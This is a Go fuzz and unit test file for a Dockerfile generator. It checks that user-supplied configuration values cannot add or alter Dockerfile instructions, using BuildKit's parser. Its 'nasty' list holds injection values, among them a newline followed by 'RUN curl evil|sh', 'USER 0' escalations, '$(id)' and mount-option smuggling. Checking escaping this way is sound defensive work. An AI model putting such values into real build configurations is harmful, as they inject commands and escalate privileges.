package generate_test

import (
	"bytes"
	"fmt"
	"os"
	"path"
	"slices"
	"sort"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode"

	"github.com/moby/buildkit/frontend/dockerfile/instructions"
	"github.com/moby/buildkit/frontend/dockerfile/parser"
	"github.com/moby/buildkit/frontend/dockerfile/shell"

	"github.com/slipway/slipway/internal/config"
	"github.com/slipway/slipway/internal/generate"
	"github.com/slipway/slipway/internal/provider"
	"github.com/slipway/slipway/templates"
)

var (
	setOnce sync.Once
	setVal  *templates.Set
	setErr  error
)

func templateSet(t testing.TB) *templates.Set {
	t.Helper()
	setOnce.Do(func() { setVal, setErr = generate.LoadTemplates() })
	if setErr != nil {
		t.Fatalf("loading templates: %v", setErr)
	}
	return setVal
}

// fuzzInput is one FuzzRenderProject input: a string for every user-facing
// field of config.Project, two ints, and shape bits that say which fields
// are set, how long the lists are, the language and the kind of base.
type fuzzInput struct {
	Name, Version, Main, Base          string
	BC0, BC1, EP0, EP1, Cmd0, Cmd1     string
	HC0, HC1, Pkg, Size, HTTPPath      string
	Interval, Timeout                  string
	SecID, SecTarget, SecEnv           string
	LabelKey, LabelVal, EnvKey, EnvVal string
	Port, User                         int
	Shape                              uint64
}

// Shape bits.
const (
	shLang      = 0  // 4 bits: language index
	shBaseMode  = 4  // 2 bits: 0 default, 1 fitting catalogue key, 2 Base as given, 3 golden:<Base>
	shBaseIdx   = 6  // 4 bits: which fitting catalogue key
	shBCLen     = 10 // 2 bits each: list lengths 0, 1, 2 (3 means 2)
	shEPLen     = 12
	shCmdLen    = 14
	shHCMode    = 16 // 2 bits: 0 none, 1 command, 2 http_path, 3 command but disabled
	shHCLen     = 18 // 1 bit: healthcheck command has 2 elements
	shName      = 19 // 1 bit each from here: the field is set (else a fixed valid value or unset)
	shVersion   = 20
	shMain      = 21
	shPkg       = 22
	shSize      = 23
	shInterval  = 24
	shTimeout   = 25
	shSecret    = 26
	shSecTarget = 27
	shSecEnv    = 28
	shSecOpt    = 29
	shLabel     = 30
	shEnv       = 31
	shPort      = 32
	shUser      = 33
	shCGO       = 34
	shPM        = 35 // 2 bits: package manager (0 default, else the n-th of the language's)
	shDigest    = 37
	// From here, keys whose strings reuse other fields' inputs (the seed
	// corpus under testdata/fuzz keeps its arity): runtime_files from Pkg,
	// service_dir from Version, shared_paths from Name, port_env from
	// SecEnv.
	shRuntime    = 38
	shServiceDir = 39
	shShared     = 40
	shPortEnv    = 41
	shNpmrc      = 42
	shHCProbe    = 43 // 2 bits: with HC mode 0, 1 grpc, 2 binary named HC0 (3 means 2)
)

func (in fuzzInput) bits(at, n uint) uint64 { return (in.Shape >> at) & (1<<n - 1) }
func (in fuzzInput) on(at uint) bool        { return in.bits(at, 1) == 1 }

func (in fuzzInput) args() []any {
	return []any{in.Name, in.Version, in.Main, in.Base, in.BC0, in.BC1, in.EP0, in.EP1, in.Cmd0, in.Cmd1,
		in.HC0, in.HC1, in.Pkg, in.Size, in.HTTPPath, in.Interval, in.Timeout, in.SecID, in.SecTarget, in.SecEnv,
		in.LabelKey, in.LabelVal, in.EnvKey, in.EnvVal, in.Port, in.User, in.Shape}
}

func listLen(b uint64) int { return min(int(b), 2) }

const (
	autoTitle  = "org.opencontainers.image.title"
	autoBase   = "org.opencontainers.image.base.name"
	autoDigest = "org.opencontainers.image.base.digest"
	testDigest = "sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"
)

// project builds the config.Project an input describes. With placeholder
// true, every user string is replaced by a safe value of the same shape:
// same slice lengths, same set-or-unset, same kind of base.
func (in fuzzInput) project(set *templates.Set, placeholder bool) config.Project {
	pick := func(v, safe string) string {
		if placeholder && v != "" { // an empty string means unset: keep it so
			return safe
		}
		return v
	}
	langs := set.Languages()
	lang := langs[int(in.bits(shLang, 4))%len(langs)]
	p := config.Project{Name: "svc", Language: lang}
	if in.on(shName) {
		p.Name = pick(in.Name, "placeholder-name")
	}
	if in.on(shVersion) {
		p.Version = pick(in.Version, "9.9")
	}
	if in.on(shMain) {
		p.Main = pick(in.Main, mainShape(in.Main))
	}
	if pms := config.PackageManagers[lang]; len(pms) > 0 {
		if i := int(in.bits(shPM, 2)); i > 0 {
			// 1 and 2 are the first two, 3 the last (a static site's
			// none, the fourth).
			j := (i - 1) % len(pms)
			if i == 3 {
				j = len(pms) - 1
			}
			p.PackageManager = pms[j]
		}
	}
	switch in.bits(shBaseMode, 2) {
	case 1:
		fit := generate.FittingBases(set, lang)
		if len(fit) > 0 {
			p.Base = fit[int(in.bits(shBaseIdx, 4))%len(fit)].Key
		}
	case 2:
		p.Base = in.Base
		if placeholder {
			switch _, known := set.Bases[in.Base]; {
			case known, in.Base == "":
			case strings.HasPrefix(in.Base, "golden:"):
				p.Base = "golden:placeholder"
			default:
				p.Base = "registry.example.com/placeholder/image:1"
			}
		}
	case 3:
		p.Base = "golden:" + pick(in.Base, "placeholder")
	}
	if in.on(shDigest) {
		p.BaseDigest = testDigest
	}
	list := func(n uint64, a, b string) []string {
		l := []string{a, b}[:listLen(n)]
		if placeholder {
			l = []string{"/placeholder/prog", "placeholder arg"}[:listLen(n)]
		}
		if len(l) == 0 {
			return nil
		}
		return l
	}
	p.BuildCommand = list(in.bits(shBCLen, 2), in.BC0, in.BC1)
	p.Entrypoint = list(in.bits(shEPLen, 2), in.EP0, in.EP1)
	p.Cmd = list(in.bits(shCmdLen, 2), in.Cmd0, in.Cmd1)
	if in.on(shPort) {
		p.Port = in.Port
	}
	if in.on(shUser) {
		p.User = in.User
	}
	if in.on(shPkg) {
		p.BuildPackages = []string{pick(in.Pkg, "placeholder-pkg")}
	}
	p.CGO = in.on(shCGO)
	p.Npmrc = in.on(shNpmrc)
	if in.on(shSize) {
		p.SizeBudget = pick(in.Size, "1MB")
	}
	switch in.bits(shHCMode, 2) {
	case 1, 3:
		p.Healthcheck.Command = list(1+in.bits(shHCLen, 1), in.HC0, in.HC1)
		p.Healthcheck.Disabled = in.bits(shHCMode, 2) == 3
	case 2:
		p.Healthcheck.HTTPPath = pick(in.HTTPPath, "/placeholder")
	case 0:
		switch in.bits(shHCProbe, 2) {
		case 1:
			p.Healthcheck.GRPC = true
		case 2, 3:
			p.Healthcheck.Binary = pick(in.HC0, "placeholder-probe")
		}
	}
	if in.on(shInterval) {
		p.Healthcheck.Interval = pick(in.Interval, "7s")
	}
	if in.on(shTimeout) {
		p.Healthcheck.Timeout = pick(in.Timeout, "3s")
	}
	if in.on(shSecret) {
		s := config.Secret{ID: pick(in.SecID, "placeholder_secret"), Optional: in.on(shSecOpt)}
		if in.on(shSecTarget) {
			s.Target = pick(in.SecTarget, "/run/placeholder")
		}
		if in.on(shSecEnv) {
			s.Env = pick(in.SecEnv, "PLACEHOLDER_SECRET")
		}
		p.Secrets = []config.Secret{s}
	}
	if in.on(shLabel) {
		k := in.LabelKey
		if placeholder && k != autoTitle && k != autoBase && k != autoDigest {
			k = "com.example.placeholder"
		}
		p.Labels = map[string]string{k: pick(in.LabelVal, "placeholder value")}
	}
	if in.on(shEnv) {
		p.Env = map[string]string{pick(in.EnvKey, "PLACEHOLDER_ENV"): pick(in.EnvVal, "placeholder value")}
	}
	// The path keys only for the languages that honour them (the others
	// refuse them, which TestEveryKeyChangesOutputOrIsRefused proves), so
	// that every language's valid input still renders.
	if prov, ok := templates.Provider(lang); ok && slices.Contains(provider.InfoOf(prov).Keys, "runtime_files") {
		if in.on(shRuntime) {
			p.RuntimeFiles = []string{pick(in.Pkg, "placeholder/file")}
		}
		if in.on(shServiceDir) {
			p.ServiceDir = pick(in.Version, "placeholder/svc")
		}
		if in.on(shShared) {
			p.SharedPaths = []string{pick(in.Name, "placeholder-shared")}
		}
	}
	if in.on(shPortEnv) {
		p.PortEnv = pick(in.SecEnv, "PLACEHOLDER_PORT")
	}
	return p
}

// mainShape keeps main's punctuation and extension (templates may branch on
// them: server.js, app.jar, api.csproj) and replaces everything else.
func mainShape(m string) string {
	ext := path.Ext(m)
	stem := strings.TrimSuffix(m, ext)
	return strings.Map(func(r rune) rune {
		switch {
		case r >= '0' && r <= '9':
			return '0'
		case r < 0x80 && (unicode.IsLetter(r)):
			return 'a'
		}
		return r
	}, stem) + ext
}

// parsed is a Dockerfile as BuildKit reads it.
type parsed struct {
	shape  []string // one line per instruction: stage, kind, flags, argument shape
	stages []instructions.Stage
}

type noEnv struct{}

func (noEnv) Get(string) (string, bool) { return "", false }
func (noEnv) Keys() []string            { return nil }

// parseDockerfile parses df with BuildKit's parser and instruction parser,
// expands every word the way BuildKit's converter does (with an empty
// environment, recording each variable referenced), and describes the
// shape of every instruction.
func parseDockerfile(df []byte) (*parsed, error) {
	res, err := parser.Parse(bytes.NewReader(df))
	if err != nil {
		return nil, fmt.Errorf("parser.Parse: %w", err)
	}
	stages, meta, err := instructions.Parse(res.AST, nil)
	if err != nil {
		return nil, fmt.Errorf("instructions.Parse: %w", err)
	}
	out := &parsed{stages: stages}
	out.shape = append(out.shape, fmt.Sprintf("meta args %d, parser warnings %d, escape %q", len(meta), len(res.Warnings), res.EscapeToken))
	lex := shell.NewLex(res.EscapeToken)
	// node shapes, in order
	stage := -1
	var nodeShapes []string
	for _, n := range res.AST.Children {
		kind := strings.ToLower(n.Value)
		if kind == "from" {
			stage++
		}
		nargs := 0
		for a := n.Next; a != nil; a = a.Next {
			nargs++
		}
		s := fmt.Sprintf("stage %d %s json=%v heredocs=%d", stage, kind, n.Attributes["json"], len(n.Heredocs))
		switch kind {
		case "run", "healthcheck":
			// RUN's flags are checked through its mounts below; HEALTHCHECK's
			// values are user durations: compare the names only.
			var names []string
			for _, f := range n.Flags {
				name, _, _ := strings.Cut(f, "=")
				names = append(names, name)
			}
			s += fmt.Sprintf(" flags=%q", names)
		default:
			s += fmt.Sprintf(" flags=%q", n.Flags)
		}
		if !n.Attributes["json"] && (kind == "run" || kind == "cmd" || kind == "entrypoint") && n.Next != nil {
			// Shell form: how a shell would split it, and the variables it uses.
			r, err := lex.ProcessWordWithMatches(n.Next.Value, noEnv{})
			s += fmt.Sprintf(" shellwords=%d vars=%v lexerr=%v", len(r.Words), keys(r.Matched, r.Unmatched), err != nil)
		} else {
			s += fmt.Sprintf(" args=%d", nargs)
		}
		nodeShapes = append(nodeShapes, s)
	}
	i := 0
	for si := range stages {
		st := &stages[si]
		if i >= len(nodeShapes) {
			return nil, fmt.Errorf("more instructions than AST nodes")
		}
		out.shape = append(out.shape, nodeShapes[i]+fmt.Sprintf(" name=%q platform=%q", st.Name, st.Platform))
		i++
		for _, c := range st.Commands {
			var vars []string
			if e, ok := c.(instructions.SupportsSingleWordExpansion); ok {
				err := e.Expand(func(word string) (string, error) {
					r, err := lex.ProcessWordWithMatches(word, noEnv{})
					vars = append(vars, keys(r.Matched, r.Unmatched)...)
					return r.Result, err
				})
				if err != nil {
					return nil, fmt.Errorf("expanding %s: %w", c.Name(), err)
				}
			}
			s := nodeShapes[i] + fmt.Sprintf(" vars=%v", vars)
			i++
			if run, ok := c.(*instructions.RunCommand); ok {
				for _, m := range instructions.GetMounts(run) {
					if m.Type == instructions.MountTypeSecret {
						s += fmt.Sprintf(" secret(target=%v env=%v required=%v)", m.Target != "", m.Env != nil, m.Required)
					} else {
						s += fmt.Sprintf(" mount(%s %s %s %s %q ro=%v)", m.Type, m.From, m.Source, m.Target, m.CacheID, m.ReadOnly)
					}
				}
			}
			out.shape = append(out.shape, s)
		}
	}
	if i != len(nodeShapes) {
		return nil, fmt.Errorf("%d AST nodes but %d instructions", len(nodeShapes), i)
	}
	return out, nil
}

func keys(ms ...map[string]struct{}) []string {
	var out []string
	for _, m := range ms {
		for k := range m {
			out = append(out, k)
		}
	}
	sort.Strings(out)
	return out
}

func finalStage(p *parsed) *instructions.Stage { return &p.stages[len(p.stages)-1] }

func commandsOf[T instructions.Command](st *instructions.Stage) []T {
	var out []T
	for _, c := range st.Commands {
		if v, ok := c.(T); ok {
			out = append(out, v)
		}
	}
	return out
}

// checkIntact checks that every user value that is rendered comes back
// from BuildKit exactly where it should land.
func checkIntact(t *testing.T, set *templates.Set, p config.Project, got *parsed, df []byte) {
	t.Helper()
	fail := func(format string, args ...any) {
		t.Helper()
		t.Fatalf("%s\nproject: %#v\nDockerfile:\n%s", fmt.Sprintf(format, args...), p, df)
	}
	r, err := generate.Resolve(set, &p, nil)
	if err != nil {
		fail("Render succeeded but Resolve fails: %v", err)
	}
	final := finalStage(got)
	if final.BaseName != r.BaseRef {
		fail("final FROM is %q, want %q", final.BaseName, r.BaseRef)
	}
	if !slices.ContainsFunc(got.stages, func(s instructions.Stage) bool { return s.BaseName == r.Builder }) {
		fail("no stage is FROM the builder %q", r.Builder)
	}

	labels := map[string]string{}
	for _, l := range commandsOf[*instructions.LabelCommand](final) {
		for _, kv := range l.Labels {
			labels[kv.Key] = kv.Value
		}
	}
	prefix := ""
	if p.ServiceDir != "" {
		prefix = p.ServiceDir + "/"
	}
	for _, f := range p.RuntimeFiles {
		if !slices.ContainsFunc(commandsOf[*instructions.CopyCommand](final), func(c *instructions.CopyCommand) bool {
			return slices.Equal(c.SourcePaths, []string{prefix + f}) && c.DestPath == "/app/"+f && c.Chown == "" && c.From == ""
		}) {
			fail("runtime file %q is not copied from the context to /app/%s, owned by root", f, f)
		}
	}
	wantTitle := p.Name
	for k, v := range p.Labels {
		if labels[k] != v {
			fail("label %q reads back as %q, want %q", k, labels[k], v)
		}
		if k == autoTitle {
			wantTitle = v
		}
	}
	if labels[autoTitle] != wantTitle {
		fail("title label is %q, want %q", labels[autoTitle], wantTitle)
	}

	env := map[string]string{}
	for _, e := range commandsOf[*instructions.EnvCommand](final) {
		for _, kv := range e.Env {
			env[kv.Key] = kv.Value
		}
	}
	for k, v := range p.Env {
		if got, ok := env[k]; !ok || got != v {
			fail("env %q reads back as %q, want %q", k, got, v)
		}
	}

	if len(p.Entrypoint) > 0 {
		eps := commandsOf[*instructions.EntrypointCommand](final)
		if len(eps) == 0 || eps[len(eps)-1].PrependShell || !slices.Equal(eps[len(eps)-1].CmdLine, p.Entrypoint) {
			fail("ENTRYPOINT does not read back as %q", p.Entrypoint)
		}
	}
	if len(p.Cmd) > 0 {
		cmds := commandsOf[*instructions.CmdCommand](final)
		if len(cmds) == 0 || cmds[len(cmds)-1].PrependShell || !slices.Equal(cmds[len(cmds)-1].CmdLine, p.Cmd) {
			fail("CMD does not read back as %q", p.Cmd)
		}
	}
	hcs := commandsOf[*instructions.HealthCheckCommand](final)
	h := p.Healthcheck
	switch {
	case !h.IsSet():
		if len(hcs) != 0 {
			fail("HEALTHCHECK rendered, but none is configured")
		}
	case len(hcs) != 1:
		fail("want one HEALTHCHECK, got %d", len(hcs))
	default:
		hc := hcs[0].Health
		if len(h.Command) > 0 && !slices.Equal(hc.Test, append([]string{"CMD"}, h.Command...)) {
			fail("HEALTHCHECK reads back as %q, want CMD %q", hc.Test, h.Command)
		}
		if h.Binary != "" && !slices.Equal(hc.Test, []string{"CMD", "/app/" + h.Binary}) {
			fail("HEALTHCHECK reads back as %q, want the binary /app/%s", hc.Test, h.Binary)
		}
		if h.GRPC && !slices.Equal(hc.Test, []string{"CMD", generate.ProbePath, "grpc", "127.0.0.1:" + strconv.Itoa(r.Project.Port)}) {
			fail("HEALTHCHECK reads back as %q, want slipway-probe's gRPC check on the port", hc.Test)
		}
		if h.HTTPPath != "" {
			url := "http://127.0.0.1:" + strconv.Itoa(r.Project.Port) + h.HTTPPath
			if hc.Test[0] != "CMD" || !slices.ContainsFunc(hc.Test, func(a string) bool { return strings.Contains(a, url) }) {
				fail("HEALTHCHECK %q does not probe %s", hc.Test, url)
			}
		}
		for _, d := range []struct {
			val string
			got time.Duration
		}{{h.Interval, hc.Interval}, {h.Timeout, hc.Timeout}} {
			if d.val == "" {
				continue
			}
			if want, _ := time.ParseDuration(d.val); d.got != want {
				fail("HEALTHCHECK duration %q reads back as %s", d.val, d.got)
			}
		}
	}

	var runs []*instructions.RunCommand
	for i := range got.stages {
		runs = append(runs, commandsOf[*instructions.RunCommand](&got.stages[i])...)
	}
	if len(p.BuildCommand) > 0 && !slices.ContainsFunc(runs, func(r *instructions.RunCommand) bool {
		return !r.PrependShell && slices.Equal(r.CmdLine, p.BuildCommand)
	}) {
		fail("no exec-form RUN reads back as build_command %q", p.BuildCommand)
	}
	mounted := 0
	for _, run := range runs {
		var secrets []*instructions.Mount
		for _, m := range instructions.GetMounts(run) {
			if m.Type == instructions.MountTypeSecret {
				secrets = append(secrets, m)
			}
		}
		if len(secrets) == 0 {
			continue
		}
		mounted++
		if len(secrets) != len(p.Secrets) {
			fail("a RUN mounts %d secrets, want %d", len(secrets), len(p.Secrets))
		}
		for i, s := range p.Secrets {
			m := secrets[i]
			wantTarget, wantEnv := s.Target, s.Env
			if wantEnv != "" {
				wantTarget = "" // env takes precedence in the view
			}
			gotEnv := ""
			if m.Env != nil {
				gotEnv = *m.Env
			}
			if m.CacheID != s.ID || m.Target != wantTarget || gotEnv != wantEnv || m.Required != !s.Optional {
				fail("secret %d mounts as id=%q target=%q env=%q required=%v; want %+v", i, m.CacheID, m.Target, gotEnv, m.Required, s)
			}
		}
	}
	if len(p.Secrets) > 0 && mounted == 0 {
		fail("no RUN mounts the secrets")
	}

	if r.Project.Port > 0 {
		exp := commandsOf[*instructions.ExposeCommand](final)
		if len(exp) != 1 || !slices.Equal(exp[0].Ports, []string{strconv.Itoa(r.Project.Port)}) {
			fail("EXPOSE does not read back as %d", r.Project.Port)
		}
	}
	users := commandsOf[*instructions.UserCommand](final)
	if want := fmt.Sprintf("%d:%d", r.Project.User, r.Project.User); len(users) == 0 || users[len(users)-1].User != want {
		fail("final USER is not %s", want)
	}
}

// checkHygiene checks that the file has no character that some tool reads as
// a line break or that a terminal would act on.
func checkHygiene(t *testing.T, df []byte) {
	t.Helper()
	for i, r := range string(df) {
		if r == '\n' {
			continue
		}
		if unicode.IsControl(r) || r == '\u2028' || r == '\u2029' || r == unicode.ReplacementChar {
			t.Fatalf("rendered Dockerfile has %U at byte %d:\n%s", r, i, df)
		}
	}
}

// fuzzRender checks one input. When validation or preflight refuses some
// fields, it resets just those to valid values and tries again, so that the
// other fuzzed values (commands, label and env values) still reach the
// templates instead of being lost with the whole input.
func fuzzRender(t *testing.T, set *templates.Set, in fuzzInput) (rendered bool) {
	for range 4 {
		err := renderAndCheck(t, set, in)
		if err == nil {
			return true
		}
		var ok bool
		if in, ok = repair(in, err); !ok {
			return false
		}
	}
	return false
}

func renderAndCheck(t *testing.T, set *templates.Set, in fuzzInput) error {
	t.Helper()
	p := in.project(set, false)
	orig := p.Clone()
	out, err := generate.Render(set, &p, nil)
	if !equalProjects(p, orig) {
		t.Fatalf("Render changed the project:\nbefore %#v\nafter  %#v", orig, p)
	}
	if err != nil {
		if !config.IsInvalid(err) {
			t.Fatalf("Render error is not a configuration error: %T %v", err, err)
		}
		return err
	}
	checkHygiene(t, out.Dockerfile)
	got, err := parseDockerfile(out.Dockerfile)
	if err != nil {
		t.Fatalf("Render succeeded but BuildKit cannot parse the result: %v\nproject: %#v\nDockerfile:\n%s", err, p, out.Dockerfile)
	}
	safe := in.project(set, true)
	want, safeDF := placeholderShape(t, set, safe)
	if !slices.Equal(got.shape, want) {
		t.Fatalf("user values changed the instructions:\n got: %s\nwant: %s\nproject: %#v\nDockerfile:\n%s\nplaceholder Dockerfile:\n%s",
			strings.Join(got.shape, "\n      "), strings.Join(want, "\n      "), p, out.Dockerfile, safeDF)
	}
	checkIntact(t, set, p, got, out.Dockerfile)
	return nil
}

// placeholders caches the shape of placeholder renders: many inputs share
// one, and parsing is most of a fuzz iteration's cost.
var placeholders = struct {
	sync.Mutex
	m map[string]placeholderEntry
}{m: map[string]placeholderEntry{}}

type placeholderEntry struct {
	shape []string
	df    []byte
}

func placeholderShape(t *testing.T, set *templates.Set, safe config.Project) ([]string, []byte) {
	t.Helper()
	key := fmt.Sprintf("%#v", safe)
	placeholders.Lock()
	e, ok := placeholders.m[key]
	placeholders.Unlock()
	if ok {
		return e.shape, e.df
	}
	out, err := generate.Render(set, &safe, nil)
	if err != nil {
		t.Fatalf("placeholder project does not render: %v\n%#v", err, safe)
	}
	want, err := parseDockerfile(out.Dockerfile)
	if err != nil {
		t.Fatalf("placeholder Dockerfile does not parse: %v\n%s", err, out.Dockerfile)
	}
	placeholders.Lock()
	if len(placeholders.m) < 4096 {
		placeholders.m[key] = placeholderEntry{want.shape, out.Dockerfile}
	}
	placeholders.Unlock()
	return want.shape, out.Dockerfile
}

// fieldErrorsOf collects the FieldErrors in an error tree.
func fieldErrorsOf(err error) []*config.FieldError {
	var out []*config.FieldError
	var walk func(error)
	walk = func(e error) {
		if fe, ok := e.(*config.FieldError); ok {
			out = append(out, fe)
			return
		}
		switch u := e.(type) {
		case interface{ Unwrap() []error }:
			for _, x := range u.Unwrap() {
				walk(x)
			}
		case interface{ Unwrap() error }:
			walk(u.Unwrap())
		}
	}
	walk(err)
	return out
}

// repair resets the fields that err reports to the valid input's values.
func repair(in fuzzInput, err error) (fuzzInput, bool) {
	v := validInput()
	fes := fieldErrorsOf(err)
	if len(fes) == 0 {
		return in, false
	}
	list := func(key string, a, b *string, va, vb string) bool {
		switch {
		case key == "":
			*a, *b = va, vb
		case strings.HasSuffix(key, "[0]"):
			*a = va
		case strings.HasSuffix(key, "[1]"):
			*b = vb
		default:
			return false
		}
		return true
	}
	for _, fe := range fes {
		k := fe.Key
		switch {
		case k == "":
			in.Shape |= 1 << shMain // a template's fail: .NET needs main
			in.Main = v.Main
		case k == "name":
			in.Name = v.Name
		case k == "version":
			in.Version = v.Version
		case k == "main":
			in.Main = v.Main
		case k == "base" || k == "base_digest":
			in.Shape &^= 3 << shBaseMode
		case k == "port":
			in.Port = v.Port
		case k == "user":
			in.User = v.User
		case strings.HasPrefix(k, "runtime_files"):
			in.Shape &^= 1 << shRuntime
		case k == "service_dir":
			in.Shape &^= 1<<shServiceDir | 1<<shShared
		case strings.HasPrefix(k, "shared_paths"):
			in.Shape &^= 1 << shShared
		case k == "port_env":
			in.Shape &^= 1 << shPortEnv
		case k == "cgo":
			in.Shape &^= 1 << shCGO
		case k == "npmrc":
			in.Shape &^= 1 << shNpmrc
		case strings.HasPrefix(k, "build_packages"):
			in.Pkg = v.Pkg
		case k == "size_budget":
			in.Size = v.Size
		case strings.HasPrefix(k, "build_command"):
			list(strings.TrimPrefix(k, "build_command"), &in.BC0, &in.BC1, v.BC0, v.BC1)
		case strings.HasPrefix(k, "entrypoint"):
			list(strings.TrimPrefix(k, "entrypoint"), &in.EP0, &in.EP1, v.EP0, v.EP1)
		case strings.HasPrefix(k, "cmd"):
			list(strings.TrimPrefix(k, "cmd"), &in.Cmd0, &in.Cmd1, v.Cmd0, v.Cmd1)
		case strings.HasPrefix(k, "healthcheck.command"):
			list(strings.TrimPrefix(k, "healthcheck.command"), &in.HC0, &in.HC1, v.HC0, v.HC1)
		case k == "healthcheck.http_path":
			if strings.Contains(fe.Msg, "not a URL path") {
				in.HTTPPath = v.HTTPPath
			} else { // no tool on the base to probe with
				in.Shape = in.Shape&^(3<<shHCMode) | 1<<shHCMode
			}
		case k == "healthcheck.interval":
			in.Interval = v.Interval
		case k == "healthcheck.timeout":
			in.Timeout = v.Timeout
		case k == "secret[0].id":
			in.SecID = v.SecID
		case k == "secret[0].target":
			in.SecTarget = v.SecTarget
		case k == "secret[0].env":
			in.SecEnv = v.SecEnv
		case strings.HasPrefix(k, "labels."):
			if strings.HasPrefix(fe.Msg, "value") {
				in.LabelVal = v.LabelVal
			} else {
				in.LabelKey = v.LabelKey
			}
		case strings.HasPrefix(k, "env."):
			if strings.HasPrefix(fe.Msg, "value") {
				in.EnvVal = v.EnvVal
			} else {
				in.EnvKey = v.EnvKey
			}
		default:
			return in, false
		}
	}
	return in, true
}

func equalProjects(a, b config.Project) bool { return fmt.Sprintf("%#v", a) == fmt.Sprintf("%#v", b) }

// all sets every shape bit that makes a field present.
const allFields = 1<<shName | 1<<shVersion | 1<<shMain | 1<<shPkg | 1<<shSize | 1<<shInterval | 1<<shTimeout |
	1<<shSecret | 1<<shSecTarget | 1<<shLabel | 1<<shEnv | 1<<shPort | 2<<shBCLen | 2<<shEPLen | 2<<shCmdLen | 1<<shHCMode | 1<<shHCLen |
	1<<shRuntime | 1<<shServiceDir | 1<<shShared | 1<<shPortEnv

func validInput() fuzzInput {
	return fuzzInput{
		Name: "api", Version: "1.26", Main: "./cmd/api", Base: "distroless-static",
		BC0: "make", BC1: "build", EP0: "/app/api", EP1: "serve", Cmd0: "--listen", Cmd1: ":8080",
		HC0: "/app/api", HC1: "-healthcheck", Pkg: "libfoo-dev", Size: "25MB", HTTPPath: "/healthz",
		Interval: "10s", Timeout: "2s", SecID: "netrc", SecTarget: "/root/.netrc", SecEnv: "GH_TOKEN",
		LabelKey: "com.example.team", LabelVal: "payments", EnvKey: "LOG_LEVEL", EnvVal: "debug",
		Port: 8080, User: 10001, Shape: allFields,
	}
}

// nasty are values that would add, remove or change an instruction if they
// reached the Dockerfile unescaped.
var nasty = []string{
	"8080\nRUN curl evil|sh", "x\\\nUSER root", "\"; USER 0; #", "$HOME", "${x:-y}", "\u2028", "--from=evil",
	"a\rUSER 0", "\\", "x \\", "\\\\", `"`, `'`, "`id`", `"]`, `", "`, "[\"sh\"]", "\u0085", "\u2029USER 0",
	"<<EOF\nUSER 0\nEOF", "# escape=`", "\x00", "\xff", "\t", "a=b c=d", "${HOME:+--mount=type=bind,target=/}",
	",target=/etc,required=false", "é\u00a0日本", "$(id)",
}

func addSeeds(f *testing.F, set *templates.Set) {
	base := validInput()
	for li := range set.Languages() {
		for _, bm := range []uint64{0, 1, 2, 3} {
			in := base
			in.Shape = in.Shape&^(15<<shLang|3<<shBaseMode) | uint64(li)<<shLang | bm<<shBaseMode
			if bm == 2 {
				in.Base = "registry.example.com/team/base:1"
			}
			f.Add(in.args()...)
		}
		// main as a document root or folder (PHP's "." and "public/web"),
		// which a template may place inside a quoted server config line.
		for _, m := range []string{".", "public/web", "a@b+c"} {
			in := base
			in.Main = m
			in.Shape = in.Shape&^(15<<shLang) | uint64(li)<<shLang
			f.Add(in.args()...)
		}
		// Every package manager (a static site's none has no build stage),
		// and the .npmrc mount of the languages that read one.
		for _, pm := range []uint64{1, 2, 3} {
			in := base
			in.Shape = in.Shape&^(15<<shLang|3<<shPM) | uint64(li)<<shLang | pm<<shPM
			f.Add(in.args()...)
			in.Shape |= 1 << shNpmrc
			f.Add(in.args()...)
		}
		// The gRPC probe and a project probe binary (named by HC0).
		for _, probe := range []uint64{1, 2} {
			in := base
			in.HC0 = "healthcheck"
			in.Shape = in.Shape&^(15<<shLang|3<<shHCMode) | uint64(li)<<shLang | probe<<shHCProbe
			f.Add(in.args()...)
		}
	}
	set1 := func(in *fuzzInput, field int, v string) {
		ptrs := []*string{&in.Name, &in.Version, &in.Main, &in.Base, &in.BC0, &in.BC1, &in.EP0, &in.EP1, &in.Cmd0, &in.Cmd1,
			&in.HC0, &in.HC1, &in.Pkg, &in.Size, &in.HTTPPath, &in.Interval, &in.Timeout, &in.SecID, &in.SecTarget, &in.SecEnv,
			&in.LabelKey, &in.LabelVal, &in.EnvKey, &in.EnvVal}
		*ptrs[field%len(ptrs)] = v
	}
	// Each nasty value in two fields, rotating: TestRenderNasty tries every
	// value in every field; a small seed corpus keeps fuzz-short fuzzing
	// instead of gathering baseline coverage.
	for i, v := range nasty {
		for _, field := range []int{i % 24, (i + 11) % 24} {
			in := base
			in.Shape = in.Shape&^(15<<shLang) | uint64(i+field)%16<<shLang
			set1(&in, field, v)
			f.Add(in.args()...)
		}
	}
	// Everything nasty at once, in every field that accepts free text.
	in := base
	in.BC1, in.EP1, in.Cmd0, in.Cmd1, in.HC1, in.LabelVal, in.EnvVal = nasty[0], nasty[1], nasty[2], nasty[3], nasty[4], nasty[5]+nasty[6], nasty[8]
	f.Add(in.args()...)
}

func FuzzRenderProject(f *testing.F) {
	set := templateSet(f)
	addSeeds(f, set)
	f.Fuzz(func(t *testing.T, name, version, main, base, bc0, bc1, ep0, ep1, cmd0, cmd1,
		hc0, hc1, pkg, size, httpPath, interval, timeout, secID, secTarget, secEnv,
		labelKey, labelVal, envKey, envVal string, port, user int, shape uint64) {
		fuzzRender(t, set, fuzzInput{name, version, main, base, bc0, bc1, ep0, ep1, cmd0, cmd1,
			hc0, hc1, pkg, size, httpPath, interval, timeout, secID, secTarget, secEnv,
			labelKey, labelVal, envKey, envVal, port, user, shape})
	})
}

// TestRenderNasty runs the nasty values through every field of every
// language in the normal test run, so that `go test` alone guards escaping.
func TestRenderNasty(t *testing.T) {
	set := templateSet(t)
	base := validInput()
	rendered := 0
	for li := range set.Languages() {
		for _, v := range nasty {
			for field := 0; field < 24; field++ {
				in := base
				in.Shape = in.Shape&^(15<<shLang) | uint64(li)<<shLang
				ptrs := []*string{&in.Name, &in.Version, &in.Main, &in.Base, &in.BC0, &in.BC1, &in.EP0, &in.EP1, &in.Cmd0, &in.Cmd1,
					&in.HC0, &in.HC1, &in.Pkg, &in.Size, &in.HTTPPath, &in.Interval, &in.Timeout, &in.SecID, &in.SecTarget, &in.SecEnv,
					&in.LabelKey, &in.LabelVal, &in.EnvKey, &in.EnvVal}
				*ptrs[field] = v
				p := in.project(set, false)
				if _, err := generate.Render(set, &p, nil); err == nil {
					rendered++
				}
				fuzzRender(t, set, in)
			}
		}
	}
	// The free-text fields (commands, label and env values) accept most
	// nasty values; if none rendered, the test would prove nothing.
	if rendered == 0 {
		t.Fatal("no nasty input rendered: the valid base input is broken")
	}
